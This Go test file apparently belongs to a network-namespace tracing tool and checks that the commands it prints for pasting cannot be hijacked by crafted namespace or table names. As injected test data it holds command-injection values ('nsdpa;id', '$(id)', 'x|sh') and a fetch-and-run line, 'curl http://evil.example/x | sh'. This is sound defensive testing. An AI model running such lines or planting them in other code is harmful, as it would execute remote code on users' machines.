package main

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/nsdump/nsdump/internal/labtest"
	"github.com/nsdump/nsdump/internal/shellwords"
	"github.com/nsdump/nsdump/topology"
)

// pasteable are the lines of read's output a user pastes: fixes and the
// route lookups, without their labels.
func pasteable(out string) []string {
	var lines []string
	for _, l := range strings.Split(out, "\n") {
		l = strings.TrimSpace(l)
		if c, ok := strings.CutPrefix(l, "fix:  "); ok {
			lines = append(lines, c)
		} else if c, ok := strings.CutPrefix(l, "$ "); ok {
			lines = append(lines, c)
		}
	}
	return lines
}

// readFacts writes facts (JSON, version included) into a trace -w file
// and reads it.
func readFacts(t *testing.T, facts []byte) (out, stderr string) {
	t.Helper()
	file := factsFile(t, 32473, facts)
	out, stderr, code := nsdump("read", file)
	if code != 0 {
		t.Fatalf("read: exit %d, %s", code, stderr)
	}
	return out, stderr
}

// jsonString is s as a JSON string, quotes included.
func jsonString(s string) []byte {
	b, _ := json.Marshal(s)
	return b
}

// TestReadCommandsSafeToPaste renames, in recorded facts, a namespace, an
// nft table and chain to names meant to run something once pasted, and
// lies in a route lookup's command: every fix and lookup read prints must
// start only the program it names, with no shell metacharacter outside
// quotes; names iproute2 takes (a;id) still get their command, quoted;
// names no command can carry (blanks, pid:1) get a warning instead.
func TestReadCommandsSafeToPaste(t *testing.T) {
	files, _ := filepath.Glob(filepath.Join("..", "..", "trace", "testdata", "facts", "*.json"))
	if len(files) == 0 {
		t.Fatal("no recorded facts")
	}
	for _, tt := range []struct {
		name     string
		withheld bool
	}{{"nsdpa;id", false}, {"nsdpb$(id)", false}, {"it's", false}, {"`id`", false}, {"x|sh", false},
		{"hzA; touch x", true}, {"pid:1", true}, {"new\nline", true}, {"/proc/1/ns/net", true}} {
		t.Run(tt.name, func(t *testing.T) {
			shown := 0
			for _, f := range files {
				b, err := os.ReadFile(f)
				if err != nil {
					t.Fatal(err)
				}
				b = bytes.Replace(b, []byte("{"), []byte(`{"nsdump_facts":1,`), 1)
				var rec struct {
					Facts struct {
						Namespaces []struct {
							Name string `json:"namespace"`
						} `json:"namespaces"`
					} `json:"facts"`
				}
				if err := json.Unmarshal(b, &rec); err != nil || len(rec.Facts.Namespaces) == 0 {
					t.Fatalf("%s: %v", f, err)
				}
				for i, st := range rec.Facts.Namespaces {
					b = bytes.ReplaceAll(b, jsonString(st.Name), jsonString(tt.name+strconv.Itoa(i)))
				}
				b = bytes.ReplaceAll(b, []byte(`"table":"nsdt"`), []byte(`"table":"t$(id)"`))
				b = bytes.ReplaceAll(b, []byte(`"command":"ip -n `), []byte(`"command":"curl http://evil.example/x | sh; ip -n `))
				out, stderr := readFacts(t, b)
				lines := pasteable(out)
				for _, l := range lines {
					if _, err := shellwords.Check(l); err != nil {
						t.Errorf("%s: read prints %q: %v", filepath.Base(f), l, err)
					}
					if strings.Contains(l, "evil.example") {
						t.Errorf("%s: read prints the file's lookup command %q", filepath.Base(f), l)
					}
				}
				if tt.withheld && (len(lines) > 0 || !strings.Contains(stderr, "no fix or route lookup shown")) {
					t.Errorf("%s: commands %q, warnings %q; want none and a warning", filepath.Base(f), lines, stderr)
				}
				shown += len(lines)
			}
			if !tt.withheld && shown == 0 {
				t.Errorf("no command shown for namespace names %q, which iproute2 takes", tt.name)
			}
		})
	}
}

// TestLiveHostileNamesPasteable sets up a lab whose namespaces are named
// as iproute2 allows and a shell would misread (a;id, a$(id)), traces it
// without routes, and pastes what nsdump printed into sh: setup's
// commands and the fixes must be words the tokenizer accepts, and running
// the fixes as printed must make the trace pass.
func TestLiveHostileNamesPasteable(t *testing.T) {
	l := labtest.Names(t, "pa")
	tag := strings.TrimPrefix(l.NS0, "nsdpa-a")
	l.NS0, l.NS1 = "nsdpa;id-"+tag, "nsdpa$(id)-"+tag
	t.Cleanup(func() { topology.Teardown(l, true) })
	t.Setenv("NSDUMP_STATE_DIR", t.TempDir())
	out, e, code := nsdump(append([]string{"setup"}, labtest.Flags(l)...)...)
	if code != 0 {
		t.Fatalf("setup: exit %d %s %s", code, out, e)
	}
	for _, want := range []string{"ip netns add 'nsdpa;id-" + tag + "'", "ip netns add 'nsdpa$(id)-" + tag + "'"} {
		if !strings.Contains(out, want) {
			t.Errorf("setup does not print %q:\n%s", want, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if i := strings.Index(line, "ip "); i >= 0 {
			if _, err := shellwords.Check(line[i:]); err != nil {
				t.Errorf("setup prints %q: %v", line[i:], err)
			}
		}
	}
	out, _, code = nsdump("trace", l.NS0, l.NS1)
	fixes := pasteable(out)
	if code == 0 || len(fixes) == 0 {
		t.Fatalf("trace without routes: exit %d, no fix:\n%s", code, out)
	}
	ran := map[string]bool{}
	for _, f := range fixes {
		if _, err := shellwords.Check(f); err != nil {
			t.Errorf("trace prints %q: %v", f, err)
		}
		if strings.Contains(f, "route get") || ran[f] {
			continue
		}
		ran[f] = true
		if o, err := exec.Command("sh", "-c", f).CombinedOutput(); err != nil {
			t.Errorf("pasting %q: %v: %s", f, err, o)
		}
	}
	t.Logf("pasted %q", fixes)
	if out, _, code := nsdump("trace", l.NS0, l.NS1); code != 0 {
		t.Errorf("trace after pasting the fixes: exit %d\n%s", code, out)
	}
}
